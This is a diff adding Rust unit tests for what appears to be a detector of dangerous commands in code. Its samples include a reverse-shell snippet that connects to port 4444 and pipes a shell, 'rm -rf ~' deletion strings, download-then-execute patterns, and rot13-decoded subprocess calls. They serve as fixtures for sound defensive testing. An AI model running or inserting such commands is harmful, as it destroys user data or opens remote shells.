@@ -364,3 +364,88 @@ fn a_string_that_is_only_printed_is_no_command() {
         assert_eq!(decision(command), Decision::Deny, "{command}");
     }
 }
+
+#[test]
+fn a_call_that_only_has_the_name_of_one_that_acts_is_another() {
+    for text in [
+        "asyncio.run(main())",
+        "app.run(port=5001)",
+        "uvicorn.run(app, port=8000)",
+        "client.delete(name)",
+        "const m = re.exec(text)",
+        "page.evaluate(() => document.title)",
+        "model.compile(optimizer)",
+        "def run(x):\n    return x\nrun(y)",
+        "threading.Thread(target=self.run)",
+    ] {
+        check(text, &[]);
+    }
+    has("import subprocess as sp\nsp.run(cmd)", "unknown");
+    has("const cp = require('child_process'); cp.exec(cmd)", "unknown");
+    has("import cp from 'child_process'; cp.exec(cmd)", "unknown");
+    has("require('child_process').exec(cmd)", "unknown");
+    has("m = __import__(name); m.run(cmd)", "unknown");
+    has("c.run('rm -rf ~')", "run rm -rf ~");
+    has("client.delete('/home/u')", "Remove /home/u");
+    assert!(!told("client.delete('/items/1')").contains(&"Remove /items/1".to_owned()));
+}
+
+#[test]
+fn a_server_on_this_machine_is_no_download() {
+    let here = ["http://localhost:8000/x", "http://127.0.0.1:1/", "http://[::1]:80/"];
+    for address in here {
+        let text = format!(
+            "import subprocess, urllib.request as u\nsubprocess.Popen(['python3', 's.py'])\nu.urlopen('{address}')"
+        );
+        assert!(!told(&text).contains(&"DownloadedCode".to_owned()), "{text}");
+    }
+    for address in ["http://x.example/", "http://localhost.x.example/", "http://localhost@x.example/"] {
+        has(
+            &format!("subprocess.run(['sh', 'a'])\nurlopen('http://localhost')\nurlopen('{address}')"),
+            "DownloadedCode",
+        );
+    }
+    has("subprocess.run(['sh', 'a'])\nurlopen(address)", "DownloadedCode");
+    has("s.connect(('127.0.0.1', 4444)); os.dup2(s.fileno(), 0); subprocess.call(['sh'])", "DownloadedCode");
+}
+
+#[test]
+fn the_interpreter_has_a_name() {
+    has("subprocess.run([sys.executable, 'a.py'])", "words python3|a.py");
+    has("spawn(process.execPath, ['a.js'])", "words node|a.js");
+}
+
+#[test]
+fn strings_of_a_table_are_data() {
+    let suspected = |text: &str| read(text).suspected.len();
+    assert_eq!(suspected("for c in ['rm -rf ~', 'dd if=a of=b']:\n    assert parse(c).argv"), 0);
+    assert_eq!(suspected("test('x', () => { const cs = ['rm -rf ~']; check(cs) })"), 0);
+    for text in ["perform('rm -rf ~')", "perform(['rm -rf ~'])", "perform 'rm -rf ~'", "'rm -rf ~'.perform()"] {
+        assert_eq!(suspected(text), 1, "{text}");
+    }
+}
+
+#[test]
+fn a_known_command_that_runs_no_file_may_stand_beside_a_download() {
+    let downloads = "import requests, subprocess\nrequests.get('https://x.example/i')\n";
+    for harmless in ["subprocess.run(['git', 'status'])", "subprocess.run('pip show flask', shell=True)"] {
+        assert!(!told(&format!("{downloads}{harmless}")).contains(&"DownloadedCode".to_owned()), "{harmless}");
+    }
+    for runs in [
+        "subprocess.run(['sh', 'i'])",
+        "subprocess.run('chmod +x i && ./i', shell=True)",
+        "subprocess.run(command)",
+        "open('i', 'w').write(x)\nsubprocess.run(['i'])",
+        "exec(x)",
+    ] {
+        has(&format!("{downloads}{runs}"), "DownloadedCode");
+    }
+}
+
+#[test]
+fn bytes_that_become_text_are_not_decoded() {
+    for text in ["subprocess.run(x).stdout.decode('utf-8')", "struct.unpack('<I', x)\nsubprocess.run(command)"] {
+        assert!(!told(text).contains(&"HiddenCode".to_owned()), "{text}");
+    }
+    has("subprocess.run(x.decode('rot13'))", "HiddenCode");
+}
